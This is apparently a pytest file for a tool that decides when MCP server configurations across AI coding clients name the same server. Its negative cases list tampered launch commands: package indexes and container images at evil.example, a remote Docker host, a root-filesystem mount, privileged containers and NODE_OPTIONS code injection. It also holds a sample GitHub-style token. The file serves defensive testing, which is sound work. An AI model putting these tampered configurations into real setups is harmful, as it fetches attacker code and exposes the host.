"""Which configurations mean the same server: in every client's words, and never more than that."""

from __future__ import annotations

import json
from typing import Any

import pytest

from pinwarden.clients.table import get_client
from pinwarden.project.configured_servers import ServerIdentity, identify_configured

Dialect = tuple[str, dict[str, Any]]


def identity(dialect: Dialect) -> ServerIdentity:
    client, entry = dialect
    found = identify_configured("notes", entry, get_client(client))
    assert found is not None
    return found


def line(text: str, **more: Any) -> Dialect:
    command, *args = text.split(" ")
    return "claude", {"command": command, "args": args, **more}


SAME: dict[str, list[Dialect]] = {
    "a list, a line, a type and switches of a client": [
        ("claude", {"command": "npx", "args": ["-y", "notes@1.0.0", "--root", "."]}),
        ("opencode", {"type": "local", "command": ["npx", "-y", "notes@1.0.0", "--root", "."], "enabled": True}),
        ("vscode", {"type": "stdio", "command": "npx", "args": ["notes@1.0.0", "--root", "."]}),
        ("cursor", {"command": "npx -y notes@1.0.0 --root ."}),
        ("zed", {"command": {"path": "npx", "args": ["-y", "notes@1.0.0", "--root", "."]}}),
        ("cline", {"command": "npx", "args": ["-y", "notes@1.0.0", "--root", "."], "autoApprove": ["x"], "timeout": 9}),
        ("vscode", {"command": "npx", "args": ["notes@1.0.0", "--root", "."], "cwd": "${workspaceFolder}"}),
    ],
    "launchers of one npm package": [
        line("npx -y @acme/notes@1.0.0"),
        line("npx --yes @acme/notes@v1.0.0"),
        line("/usr/local/bin/npx @acme/notes@1.0.0"),
        line("cmd /c npx -y @acme/notes@1.0.0"),
        line("pnpm dlx @acme/notes@1.0.0"),
        line("bunx @acme/notes@1.0.0"),
        line("npm exec -y -- @acme/notes@1.0.0"),
    ],
    "launchers of one Python package": [
        line("uvx acme-notes==1.0"),
        line("uvx Acme_Notes@1.0.0"),
        line("uv tool run acme.notes==1"),
        line("uvx --from acme-notes==1.0 acme-notes"),
        line("pipx run acme-notes==1.0"),
        line("python3 -m uv tool run -q acme-notes==1.0"),
    ],
    "no version and the tag latest": [line("npx -y notes"), line("npx -y notes@latest")],
    "a container and the order of its options": [
        line("docker run -i --rm -e B -e A acme/notes:1 serve"),
        line("podman run --rm --env=A --env=B -i docker.io/acme/notes:1 serve"),
    ],
    "references to one variable": [
        ("claude", {"command": "notes", "args": ["${ROOT}"], "env": {"KEY": "${KEY}", "B": "${B}"}}),
        ("vscode", {"command": "notes", "args": ["${env:ROOT}"], "env": {"B": "${env:B}", "KEY": "${env:KEY}"}}),
        ("opencode", {"command": ["notes", "{env:ROOT}"], "environment": {"B": "{env:B}", "KEY": "{env:KEY}"}}),
        ("gemini", {"command": "notes", "args": ["$ROOT"], "env": {"KEY": "$KEY", "B": "$B"}}),
        ("codex", {"command": "notes", "args": ["${ROOT}"], "env_vars": ["KEY", "B"]}),
        ("continue", {"name": "notes", "command": "notes", "args": ["${ROOT}"], "env": {
            "KEY": "${{ secrets.KEY }}", "B": "${B}"}}),
        ("vscode", {"command": "notes", "args": ["${ROOT}"], "env": {"KEY": "${input:notes-key}", "B": "${env:B}"}}),
        ("claude", {"command": "notes", "args": ["${ROOT}"], "env": {"KEY": "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
                                                                        "B": "${B}"}}),
    ],
    "an address and its headers": [
        ("claude", {"type": "http", "url": "https://a.example/mcp", "headers": {"Authorization": "Bearer ${KEY}"}}),
        ("cursor", {"url": "https://a.example/mcp", "headers": {"authorization": "Bearer ${env:KEY}"}}),
        ("windsurf", {"serverUrl": "https://a.example/mcp", "headers": {"Authorization": "Bearer ${env:KEY}"}}),
        ("gemini", {"httpUrl": "https://a.example/mcp", "headers": {"Authorization": "Bearer ${KEY}"}}),
        ("codex", {"url": "https://a.example/mcp", "bearer_token_env_var": "KEY"}),
        ("opencode", {"type": "remote", "url": "https://a.example/mcp", "headers": {
            "Authorization": "Bearer {env:KEY}"}}),
    ],
}  # fmt: skip

OTHER: dict[str, tuple[Dialect, Dialect]] = {
    "another version": (line("npx -y notes@1.0.0"), line("npx -y notes@1.0.1")),
    "a pinned and a floating version": (line("npx -y notes@1.0.0"), line("npx -y notes")),
    "another package": (line("npx -y notes@1.0.0"), line("npx -y n0tes@1.0.0")),
    "another scope": (line("npx -y @acme/notes@1.0.0"), line("npx -y @acne/notes@1.0.0")),
    "another registry of packages": (line("npx -y notes@1.0.0"), line("uvx notes==1.0.0")),
    "another argument": (line("npx -y notes@1.0.0 --read"), line("npx -y notes@1.0.0 --write")),
    "another order of arguments": (line("npx notes@1.0.0 a b"), line("npx notes@1.0.0 b a")),
    "another program of the package": (line("npx -p notes@1.0.0 one"), line("npx -p notes@1.0.0 two")),
    "a second package beside it": (line("npx -p notes@1.0.0 x"), line("npx -p notes@1.0.0 -p evil@1.0.0 x")),
    "an index in the command": (line("uvx notes==1"), line("uvx --index-url https://evil.example notes==1")),
    "an index behind the package": (line("npx notes@1.0.0"), line("npx notes@1.0.0 --registry=https://evil.example")),
    "a package that is added": (line("uvx notes==1"), line("uvx --with evil notes==1")),
    "an extra of the package": (line("uvx notes==1"), line("uvx notes[evil]==1")),
    "a wrapper": (line("npx notes@1.0.0"), line("env NODE_OPTIONS=--require=/x npx notes@1.0.0")),
    "a launcher in a temporary folder": (line("npx notes@1.0.0"), line("/tmp/npx notes@1.0.0")),
    "another engine's host": (line("docker run -i a/n:1"), line("docker -H tcp://evil.example run -i a/n:1")),
    "a folder of the machine": (line("docker run -i a/n:1"), line("docker run -i -v /:/host a/n:1")),
    "a privileged container": (line("docker run -i a/n:1"), line("docker run -i --privileged a/n:1")),
    "a flag in a cluster": (line("docker run -ie A a/n:1"), line("docker run -iPe A a/n:1")),
    "another image": (line("docker run -i a/n:1"), line("docker run -i evil.example/a/n:1")),
    "another folder": (line("npx notes@1.0.0"), line("npx notes@1.0.0", cwd="/srv/other")),
    "another variable": (line("n", env={"KEY": "${KEY}"}), line("n", env={"KEY": "${OTHER}"})),
    "a variable more": (line("n", env={"KEY": "${KEY}"}), line("n", env={"KEY": "${KEY}", "B": "${B}"})),
    "a name and the reference to it": (line("n KEY"), line("n ${KEY}")),
    "a variable that redirects": (line("npx n@1.0.0"), line("npx n@1.0.0", env={"NODE_OPTIONS": "--require=/x.js"})),
    "another host": (("claude", {"url": "https://a.example/mcp"}), ("claude", {"url": "https://b.example/mcp"})),
    "another path": (("claude", {"url": "https://a.example/mcp"}), ("claude", {"url": "https://a.example/other"})),
    "an address and what connects to it": (
        ("claude", {"url": "https://a.example/mcp"}),
        line("npx -y mcp-remote@1.0.0 https://a.example/mcp"),
    ),
    "another program": (line("node a.js"), line("node b.js")),
    "a program by a path": (line("notes"), line("./notes")),
}


@pytest.mark.parametrize("dialects", SAME.values(), ids=list(SAME))
def test_the_same_server_in_several_client_dialects_has_one_identity(dialects: list[Dialect]) -> None:
    first = identity(dialects[0])
    for other in dialects[1:]:
        assert identity(other) == first, json.dumps(other)


@pytest.mark.parametrize("pair", OTHER.values(), ids=list(OTHER))
def test_attack_a_different_command_or_address_has_another_identity(pair: tuple[Dialect, Dialect]) -> None:
    assert identity(pair[0]) != identity(pair[1])
